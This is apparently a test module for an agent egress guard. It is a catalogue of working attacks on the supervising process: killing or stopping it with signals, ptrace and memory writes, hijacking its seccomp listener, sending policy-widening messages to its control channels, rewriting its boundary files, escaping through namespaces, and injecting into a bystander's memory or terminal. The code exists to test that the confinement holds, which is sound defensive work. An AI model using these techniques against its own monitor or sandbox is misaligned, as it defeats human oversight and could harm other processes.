"""Attacks on whoever watches: its life, its memory, its descriptors, its channels; and on a bystander outside of the tree."""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import termios
import threading
import time
from pathlib import Path

import world
from attempts.calls import LIBC
from table import ATTEMPTS, attempt

PIDFD_OPEN, PIDFD_GETFD = 434, 438
PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_POKEDATA, PTRACE_DETACH = 16, 0x4206, 5, 17


def say(aim):
    opened = socket.socket()
    opened.settimeout(2)
    opened.connect((world.DENIED4, 80))
    opened.sendall(aim.request())
    opened.recv(10)


def others():
    """Every other process here; one of them watches us."""
    mine = {os.getpid(), 1}
    return [int(path.name) for path in Path("/proc").iterdir() if path.name.isdigit() and int(path.name) not in mine]


def watch(*needs, **more):
    return attempt("supervisor", *needs, alone=True, **more)


def _signalled(number):
    def act(aim):
        for pid in others():
            with contextlib.suppress(OSError):
                os.kill(pid, number)
        time.sleep(0.1)
        for _ in range(3):
            with contextlib.suppress(OSError):
                say(aim)

    return act


for _number in (
    signal.SIGKILL,
    signal.SIGSTOP,
    signal.SIGTERM,
    signal.SIGSEGV,
    signal.SIGINT,
    signal.SIGHUP,
    signal.SIGPIPE,
    signal.SIGUSR1,
):
    ATTEMPTS.add("supervisor", f"sent {_number.name}", _signalled(_number), alone=True)


@watch()
def threads_killed(aim):
    for pid in others():
        with contextlib.suppress(OSError):
            for task in os.listdir(f"/proc/{pid}/task"):
                LIBC.syscall(200, int(task), 9)
    say(aim)


@watch()
def killed_by_pidfd(aim):
    for pid in others():
        fd = LIBC.syscall(PIDFD_OPEN, pid, 0)
        if fd >= 0:
            LIBC.syscall(424, fd, 9, None, 0)
    say(aim)


@watch()
def killed_by_a_child(aim):
    for pid in others():
        subprocess.run(["sh", "-c", f"kill -9 {pid}"], check=False, capture_output=True)
    time.sleep(0.1)
    say(aim)


@watch()
def process_group_killed(aim):
    for pid in others():
        with contextlib.suppress(OSError):
            if os.getpgid(pid) != os.getpgid(0):
                os.killpg(os.getpgid(pid), signal.SIGKILL)
    say(aim)


@watch()
def killed_by_an_owner_signal(aim):
    """F_SETOWN has the kernel send signals on our behalf."""
    for pid in others():
        ours, theirs = socket.socketpair()
        with contextlib.suppress(OSError):
            fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
            fcntl.fcntl(ours, 10, signal.SIGKILL)
            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            theirs.send(b"x")
    time.sleep(0.05)
    say(aim)


@watch()
def traced(aim):
    for pid in others():
        for request in (PTRACE_ATTACH, PTRACE_SEIZE):
            LIBC.ptrace(request, pid, None, None)
    time.sleep(0.05)
    say(aim)


@watch()
def memory_written(aim):
    for pid in others():
        with contextlib.suppress(OSError):
            maps = Path(f"/proc/{pid}/maps").read_text(encoding="ascii")
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                for line in maps.splitlines():
                    if " rw" in line and "heap" in line:
                        memory.seek(int(line.partition("-")[0], 16))
                        memory.write(b"\0" * 4096)
    say(aim)


@watch()
def memory_written_by_the_other_call(aim):
    for pid in others():
        with contextlib.suppress(OSError):
            for line in Path(f"/proc/{pid}/maps").read_text(encoding="ascii").splitlines():
                if " rw" in line:
                    base = int(line.partition("-")[0], 16)
                    local = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(64)), 64)
                    remote = (ctypes.c_size_t * 2)(base, 64)
                    LIBC.process_vm_writev(pid, local, 1, remote, 1, 0)
    say(aim)


@watch()
def limits_lowered(aim):
    """No descriptors, no processor, no memory for the watcher."""
    for pid in others():
        for limit, value in (
            (resource.RLIMIT_NOFILE, 0),
            (resource.RLIMIT_CPU, 0),
            (resource.RLIMIT_AS, 0),
            (resource.RLIMIT_NPROC, 0),
        ):
            with contextlib.suppress(OSError, ValueError):
                resource.prlimit(pid, limit, (value, value))
    time.sleep(0.05)
    say(aim)


@watch()
def starved(aim):
    for pid in others():
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, pid, 19)
        with contextlib.suppress(OSError):
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    burners = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(4)]
    try:
        for _ in range(20):
            with contextlib.suppress(OSError):
                say(aim)
    finally:
        for burner in burners:
            burner.kill()
            burner.wait()


@watch()
def flooded(aim):
    """More questions at once than it has hands."""

    def one():
        for _ in range(15):
            opened = socket.socket()
            opened.setblocking(False)
            opened.connect_ex((world.DENIED4, 80))
            with contextlib.suppress(OSError):
                opened.sendall(aim.request())

    threads = [threading.Thread(target=one) for _ in range(100)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@watch()
def flooded_with_questions(aim):
    def one():
        for number in range(10):
            with contextlib.suppress(OSError):
                socket.getaddrinfo(f"{number}.{aim.secret_name}", 80)

    threads = [threading.Thread(target=one) for _ in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    with contextlib.suppress(OSError):
        say(aim)


@watch()
def without_descriptors(aim):
    """We have none left: where would the answer go?"""
    resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
    opened = socket.socket()
    hoard = []
    with contextlib.suppress(OSError):
        while True:
            hoard.append(os.open("/dev/null", os.O_RDONLY))
    opened.connect((world.DENIED4, 80))
    opened.sendall(aim.request())


def _stolen(pid, number):
    fd = LIBC.syscall(PIDFD_OPEN, pid, 0)
    if fd < 0:
        return -1
    try:
        return LIBC.syscall(PIDFD_GETFD, fd, number, 0)
    finally:
        os.close(fd)


class Notification(ctypes.Structure):
    _fields_ = (("id", ctypes.c_uint64), ("pid", ctypes.c_uint32), ("flags", ctypes.c_uint32), ("data", ctypes.c_uint8 * 64))


def _answer_all(fd, until):
    """Answer every question with "go on": whoever holds the listener decides."""
    import select

    while time.monotonic() < until:
        if not select.select([fd], [], [], 0.05)[0]:
            continue
        asked = bytearray(80)
        with contextlib.suppress(OSError):
            fcntl.ioctl(fd, 0xC0502100, asked)
            fcntl.ioctl(fd, 0xC0182101, bytearray(asked[:8] + struct.pack("=qiI", 0, 0, 1)))


@watch("machine:x86_64")
def listener_stolen(aim):
    found = [fd for pid in others() for number in range(40) if (fd := _stolen(pid, number)) >= 0]
    until = time.monotonic() + 1
    threads = [threading.Thread(target=_answer_all, args=(fd, until), daemon=True) for fd in found]
    for thread in threads:
        thread.start()
    say(aim)


@watch()
def listener_opened_through_proc(aim):
    for pid in others():
        for number in range(40):
            with contextlib.suppress(OSError):
                fd = os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR)
                os.write(fd, b"\0" * 80)
    say(aim)


@watch("machine:x86_64")
def listener_of_our_own(aim):
    """A second filter, newer than the guard's, that answers for it."""

    class Program(ctypes.Structure):
        _fields_ = (("length", ctypes.c_ushort), ("filter", ctypes.c_void_p))

    code = b"".join(struct.pack("=HBBI", *one) for one in (
        (0x20, 0, 0, 0), (0x15, 0, 1, 42), (0x06, 0, 0, 0x7FC00000), (0x06, 0, 0, 0x7FFF0000),
    ))  # fmt: skip
    text = ctypes.create_string_buffer(code, len(code))
    program = Program(4, ctypes.addressof(text))
    LIBC.prctl(38, 1, 0, 0, 0)
    ready, listeners = threading.Event(), []

    def connect():
        listeners.append(LIBC.syscall(317, 1, 8, ctypes.byref(program)))
        ready.set()
        with contextlib.suppress(OSError):
            say(aim)

    thread = threading.Thread(target=connect)
    thread.start()
    ready.wait(1)
    if listeners[0] >= 0:
        _answer_all(listeners[0], time.monotonic() + 1)
    thread.join(3)


def _filter_before(result):
    def act(aim):
        class Program(ctypes.Structure):
            _fields_ = (("length", ctypes.c_ushort), ("filter", ctypes.c_void_p))

        code = struct.pack("=HBBI", 0x06, 0, 0, result)
        text = ctypes.create_string_buffer(code, len(code))
        LIBC.prctl(38, 1, 0, 0, 0)
        LIBC.syscall(317, 1, 0, ctypes.byref(Program(1, ctypes.addressof(text))))
        say(aim)

    return act


ATTEMPTS.add("supervisor", "filter of our own that allows everything", _filter_before(0x7FFF0000), alone=True)
ATTEMPTS.add("supervisor", "filter of our own that logs everything", _filter_before(0x7FFC0000), alone=True)

WISHES = (
    b"\0" * 64, b"\xff" * 4096, b"\n", b"{}\n", b'{"widen": true}\n',
    b'{"allow": ["*"]}\n', b"allow *\n", b"stop\n", b"quit\n", b"reload\n",
    json.dumps({"kind": "boundary", "boundary": {"allowed": ["*"], "blocked": [], "agents": []}}).encode() + b"\n",
    json.dumps({"op": "replace", "policy": {"allowed_domains": ["*"]}}).encode() + b"\n",
)  # fmt: skip


@watch()
def channel_written_to(aim):
    """Every pipe and socket that we hold."""
    for fd in range(3, 256):
        with contextlib.suppress(OSError):
            kind = os.fstat(fd).st_mode
            if stat.S_ISSOCK(kind) or stat.S_ISFIFO(kind):
                os.set_blocking(fd, False)
                for wish in WISHES:
                    os.write(fd, struct.pack("=I", len(wish)) + wish)
                    os.write(fd, wish)
    time.sleep(0.1)
    say(aim)


@watch()
def channel_told_to_replace_the_boundary(aim):
    """In the guard's own words, with the guard's own code where it is here."""
    boundary = sys.modules.get("agentguard.egress.boundary")
    control = sys.modules.get("agentguard.egress.kernel.control")
    wishes = list(WISHES)
    if boundary and control:
        import agentguard

        wide = agentguard.Policy.from_mapping(
            {"agent_config": {"name": "x", "external_calls": {"allowed_domains": ["*", world.DENIED4]}}}
        )
        with contextlib.suppress(Exception):
            wishes.append(json.dumps(boundary.Boundary.of(wide, ()).to_json()).encode())
    for fd in range(3, 256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                opened = socket.socket(fileno=os.dup(fd))
                opened.setblocking(False)
                for wish in wishes:
                    opened.send(wish)
    time.sleep(0.1)
    say(aim)


@watch()
def channel_closed(aim):
    """The other end sees the end of the file: is that the end of the guard?"""
    for fd in range(3, 256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.close(fd)
    time.sleep(0.2)
    say(aim)


@watch()
def sockets_of_the_state_folder(aim):
    for path in (*Path(aim.scratch).rglob("*"), *Path("/tmp").glob("*agentguard*")):
        with contextlib.suppress(OSError):
            if path.is_socket():
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as opened:
                        opened.connect(str(path))
                        for wish in WISHES:
                            opened.send(wish)
    say(aim)


@watch()
def state_folder_deleted(aim):
    import shutil

    shutil.rmtree(Path(aim.scratch, "state"), ignore_errors=True)
    say(aim)


@watch()
def boundary_file_rewritten(aim):
    """What the watcher has read from a file, it may read again."""
    for path in Path(aim.scratch).rglob("*"):
        with contextlib.suppress(OSError, UnicodeDecodeError):
            if path.is_file() and path.suffix in {".yaml", ".json"} and path.name != "order.json":
                path.write_text(
                    path.read_text(encoding="utf-8").replace("allowed.test", "denied.test").replace("blocked", "allowed"),
                    encoding="utf-8",
                )
    until = time.monotonic() + 2
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            return say(aim)
        time.sleep(0.3)
    return None


@watch("program:unshare")
def new_session_and_user_namespace(aim):
    code = f"import socket; s=socket.create_connection(('{world.DENIED4}', 80), 2);"
    code += f"s.sendall(b'GET /{aim.token} HTTP/1.0\\r\\n\\r\\n'); s.recv(9)"
    subprocess.run(
        ["unshare", "--user", "--map-root-user", "--pid", "--fork", "setsid", sys.executable, "-ISc", code],
        check=False,
        capture_output=True,
    )


@watch()
def many_forks_while_the_watcher_is_killed(aim):
    def killer():
        for _ in range(200):
            for pid in others():
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)

    child = os.fork()
    if child == 0:
        killer()
        os._exit(0)
    for _ in range(40):
        with contextlib.suppress(OSError):
            say(aim)
    with contextlib.suppress(ChildProcessError):
        os.waitpid(child, 0)


# ------------------------------------------------------------------------- a process of the same user, outside of the tree
# bystander.py holds a connection to the denied server, says again and again what stands in its memory, and obeys a terminal.


def bystander():
    import ast

    return ast.literal_eval(Path("/run/bystander").read_text(encoding="ascii"))


def beside(*needs, **more):
    return attempt("bystander", *needs, "feature:siblings", **more)


@beside()
def descriptor_stolen(aim):
    pid, fd, _, _ = bystander()
    stolen = _stolen(pid, fd)
    os.write(stolen, aim.request())


@beside()
def descriptor_opened_through_proc(aim):
    """Sockets cannot be opened so; a pipe that somebody reads can."""
    pid, fd, _, _ = bystander()
    try:
        os.write(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY), aim.request())
    except OSError:
        os.write(_stolen(pid, fd), aim.request())


@beside()
def memory_of_a_bystander(aim):
    pid, _, at, _ = bystander()
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(at)
        memory.write(aim.secret)
    time.sleep(0.15)


@beside()
def memory_of_a_bystander_by_the_other_call(aim):
    pid, _, at, _ = bystander()
    text = ctypes.create_string_buffer(aim.secret)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(text), len(aim.secret))
    remote = (ctypes.c_size_t * 2)(at, len(aim.secret))
    LIBC.process_vm_writev(pid, local, 1, remote, 1, 0)
    time.sleep(0.15)


@beside()
def bystander_traced(aim):
    pid, _, at, _ = bystander()
    LIBC.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    if LIBC.ptrace(PTRACE_ATTACH, pid, None, None) < 0:
        raise PermissionError("ptrace")
    os.waitpid(pid, 0x40000000)
    data = aim.secret.ljust(24, b"\0")
    for offset in range(0, 24, 8):
        LIBC.ptrace(PTRACE_POKEDATA, pid, at + offset, int.from_bytes(data[offset : offset + 8], "little"))
    LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    time.sleep(0.15)


@beside("feature:tiocsti")
def typed_into_the_terminal_of_a_bystander(aim):
    """What a program types into its terminal is read by the shell that it came from."""
    *_, terminal = bystander()
    child = os.fork()
    if child == 0:
        os.setsid()
        opened = os.open(terminal, os.O_RDWR)  # as whoever is started in a terminal has it
        with contextlib.suppress(OSError):
            for byte in aim.secret + b"\n":
                fcntl.ioctl(opened, termios.TIOCSTI, bytes([byte]))
        time.sleep(0.15)
        os._exit(0)
    os.waitpid(child, 0)
